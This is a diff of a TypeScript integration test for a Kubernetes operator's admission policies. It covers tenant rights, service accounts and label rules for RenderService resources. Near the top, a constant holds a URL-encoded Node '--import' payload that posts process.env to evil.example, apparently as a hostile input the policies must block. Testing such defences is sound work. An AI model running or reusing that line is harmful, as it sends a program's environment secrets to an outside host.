@@ -18,14 +18,16 @@ const NAMESPACE = 'tenants';
 const PROGRAM =
   '--import=data:text/javascript,fetch%28%22http:%2F%2Fevil.example%2F%22+JSON.stringify%28process.env%29%29';
 const TENANTS = Object.keys(RIGHTS) as Tenant[];
+/** May do all with RenderServices, and nothing else. */
+const NOBODY = 'nobody';
 
 let server: ApiServer;
 let world: World;
 let operator: ApiClient;
-let clients: Record<Tenant, ApiClient>;
+let clients: Record<Tenant | typeof NOBODY, ApiClient>;
 
 /** What the API server tells a user who tries; empty when it works. */
-async function refusal(user: Tenant, resource: Json): Promise<string> {
+async function refusal(user: Tenant | typeof NOBODY, resource: Json): Promise<string> {
   try {
     await clients[user].post(`${world.path('RenderService')}?dryRun=All&fieldValidation=Strict`, resource);
     return '';
@@ -34,14 +36,15 @@ async function refusal(user: Tenant, resource: Json): Promise<string> {
   }
 }
 
-function resourceOf({ spec }: Forbidden, name = 'shop'): Json {
-  return renderService(NAMESPACE, name, spec);
+function resourceOf({ spec, labels }: Forbidden, name = 'shop'): Json {
+  const { metadata, ...resource } = renderService(NAMESPACE, name, spec);
+  return { ...resource, metadata: { ...metadata, ...(labels && { labels }) } };
 }
 
-/** Gives each tenant all rights on RenderServices, and one more thing. */
+/** Gives each tenant all rights on RenderServices, and what else it may do. */
 async function createTenants(): Promise<void> {
   const renderServices = { apiGroups: ['corelane.dev'], resources: ['renderservices', 'renderservices/scale'] };
-  for (const [name, rules] of Object.entries(RIGHTS)) {
+  for (const [name, rules] of Object.entries({ ...RIGHTS, [NOBODY]: [] })) {
     const role = {
       rules: [{ ...renderServices, verbs: ['create', 'get', 'list', 'patch', 'update', 'delete'] }, ...rules],
     };
@@ -58,7 +61,6 @@ async function createTenants(): Promise<void> {
 const FOREIGN: { kind: KindName; content: object; mayDelete?: boolean; mayOnlyCreate?: boolean }[] = [
   { kind: 'ConfigMap', content: { data: { a: 'b' } }, mayDelete: true },
   { kind: 'Service', content: { spec: { ports: [{ port: 80 }] } } },
-  { kind: 'ServiceAccount', content: {} },
   { kind: 'Secret', content: { stringData: { key: 'a' } }, mayOnlyCreate: true },
   {
     kind: 'PodDisruptionBudget',
@@ -137,8 +139,8 @@ beforeAll(async () => {
   world = await World.create(server, NAMESPACE);
   operator = new ApiClient(server.operatorKubeconfig);
   await createTenants();
-  const client = (user: Tenant) => [user, new ApiClient(server.adminKubeconfig, user)] as const;
-  clients = Object.fromEntries(TENANTS.map(client)) as typeof clients;
+  const client = (user: string) => [user, new ApiClient(server.adminKubeconfig, user)] as const;
+  clients = Object.fromEntries([...TENANTS, NOBODY].map(client)) as typeof clients;
   for (const { kind, content } of FOREIGN)
     await world.admin.post(world.path(kind), { metadata: { name: 'foreign' }, ...content });
   for (const [name, labels] of Object.entries(PODS))
@@ -171,6 +173,8 @@ describe('with the policies', () => {
   beforeAll(async () => {
     // Somebody who may has made this one; what tenants do with it is below.
     await world.createRenderService('of-admin', { template: podTemplate({}, { hostPID: true }) });
+    const labels = { 'example.com/cost-center': '42' };
+    await world.admin.patch(world.path('RenderService', 'of-admin'), { metadata: { labels } });
     await world.createRenderService('with-headers', {
       template: podTemplate(),
       tracing: { endpoint: 'https://otlp.example', headersFrom: { name: 'key' } },
@@ -181,7 +185,7 @@ describe('with the policies', () => {
   test('they have no error that the API server knows of', async () => {
     const path = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies';
     const { items } = await world.admin.get(path);
-    expect(items).toHaveLength(3);
+    expect(items).toHaveLength(4);
     for (const { status } of items) expect(status?.typeChecking?.expressionWarnings ?? []).toEqual([]);
   });
 
@@ -203,8 +207,21 @@ describe('with the policies', () => {
       },
     );
     const spec = { template, service: { port: 8080 }, networkPolicy: { enabled: false }, pooling: { enabled: false } };
-    expect(await refusal(user, renderService(NAMESPACE, 'shop', spec))).toBe('');
+    // As people and tools give them to all that is theirs.
+    const labels = { team: 'web', 'app.kubernetes.io/part-of': 'shop', 'kustomize.toolkit.fluxcd.io/name': 'shop' };
+    expect(await refusal(user, resourceOf({ what: '', field: '', allowed: [], spec, labels }))).toBe('');
   });
+
+  test.each([{}, { serviceAccountName: 'default' }, { serviceAccount: 'default' }, { serviceAccountName: '' }])(
+    'who has no right to the account of the namespace cannot have it by %j either',
+    async (pod) => {
+      const resource = renderService(NAMESPACE, 'shop', { template: podTemplate({}, pod) });
+      expect(await refusal(NOBODY, resource)).toContain(
+        'denied request: spec.template.spec.serviceAccountName: pods run',
+      );
+      expect(await refusal('tenant', resource)).toBe('');
+    },
+  );
 
   test.each(FORBIDDEN)('$what is for those with the right to it', async (forbidden) => {
     for (const user of TENANTS) {
@@ -256,6 +273,10 @@ describe('with the policies', () => {
       tenant('patch', 'renderservice', 'of-admin', '--type=merge', `--patch=${JSON.stringify({ spec })}`);
     await patch({ replicas: 3, queue: { maxLength: 7 } });
     await tenant('scale', 'renderservice', 'of-admin', '--replicas=1');
+    await tenant('label', 'renderservice', 'of-admin', 'team=web');
+    await expect(
+      tenant('label', 'renderservice', 'of-admin', 'example.com/cost-center=1', '--overwrite'),
+    ).rejects.toThrow('denied request: metadata.labels: ');
     // The image of a pod that sees all processes of the node is as much as the pod.
     await expect(
       patch({ template: podTemplate({ image: 'corelane.test/evil:1' }, { hostPID: true }) }),
@@ -320,14 +341,14 @@ describe('with the policies', () => {
     await world.createRenderService('works');
     await world.untilApplied('works');
     await world.admin.patch(world.path('Service', 'works'), { spec: { selector: { tier: 'gold' } } });
-    await world.admin.delete(world.path('ServiceAccount', 'works'));
+    await world.admin.delete(world.path('ConfigMap', 'works-live'));
     await world.patchSpec('works', {
       queue: { maxLength: 3 },
       disruptionBudget: { enabled: false },
       networkPolicy: { enabled: false },
     });
     await eventually('all of it is done', async () => {
-      await world.get('ServiceAccount', 'works');
+      await world.get('ConfigMap', 'works-live');
       expect((await world.get('Service', 'works')).spec.selector).toEqual({
         ...{ 'corelane.dev/renderservice': 'works', 'corelane.dev/serving': 'true' },
       });
